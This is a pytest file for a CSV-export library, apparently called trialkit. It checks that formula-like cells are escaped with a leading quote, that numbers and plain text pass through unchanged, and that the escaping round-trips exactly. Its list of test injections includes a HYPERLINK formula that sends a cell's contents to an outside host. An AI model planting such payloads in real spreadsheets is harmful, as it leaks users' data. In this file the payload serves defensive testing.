"""Spreadsheet-safe CSV cells (issue 20, item 3): no live formula, exact round trip."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from trialkit._core.spreadsheet import (
    FORMULA_STARTS,
    frame_csv,
    neutralise,
    neutralise_csv,
    restore,
)

INJECTIONS = [
    "=1+2",
    "+SUM(1)",
    "@SUM(1)",
    "-2+3",
    "\tx",
    "\rx",
    '=HYPERLINK("http://x?l="&A1,"c")',
]


def _live(cell: str) -> bool:
    """Would a spreadsheet run this cell as a formula?"""
    return cell[:1] in FORMULA_STARTS and neutralise(cell) != cell


@pytest.mark.parametrize("cell", INJECTIONS)
def test_formula_like_cells_get_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "-0.31", "+3", "-1e-05", "1.5E+3", "-.5", "0", "42"])
def test_plain_numbers_stay_numbers(cell: str) -> None:
    assert neutralise(cell) == cell


@pytest.mark.parametrize("cell", ["team-7", "budget", "", "a=b", " =1"])
def test_ordinary_text_is_untouched(cell: str) -> None:
    assert neutralise(cell) == cell


@given(st.text())
def test_restore_inverts_neutralise(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    escaped = neutralise(cell)  # starts with a trigger only when it is a plain number
    assert escaped[:1] not in FORMULA_STARTS or (escaped == cell and cell[:1] in "+-")


def test_neutralise_csv_escapes_cells_and_keeps_the_rest_byte_for_byte() -> None:
    text = 'unit_id,arm,p\nu1,usual,0.5\n"=1+2",usual,-0.31\n"a,b",x,1\n'
    out = neutralise_csv(text)
    assert out == 'unit_id,arm,p\nu1,usual,0.5\n\'=1+2,usual,-0.31\n"a,b",x,1\n'
    assert neutralise_csv("u1,usual,0.5\n") == "u1,usual,0.5\n"


def test_frame_csv_escapes_text_but_keeps_negative_numbers() -> None:
    frame = pd.DataFrame(
        {"outcome": ["=1+2", "loneliness"], "estimate": [-0.31, 1.2], "note": ["@SUM(1)", None]}
    )
    rows = list(csv.reader(io.StringIO(frame_csv(frame))))
    assert rows[1] == ["'=1+2", "-0.31", "'@SUM(1)"]
    assert rows[2] == ["loneliness", "1.2", ""]
    assert not any(_live(cell) for row in rows for cell in row)
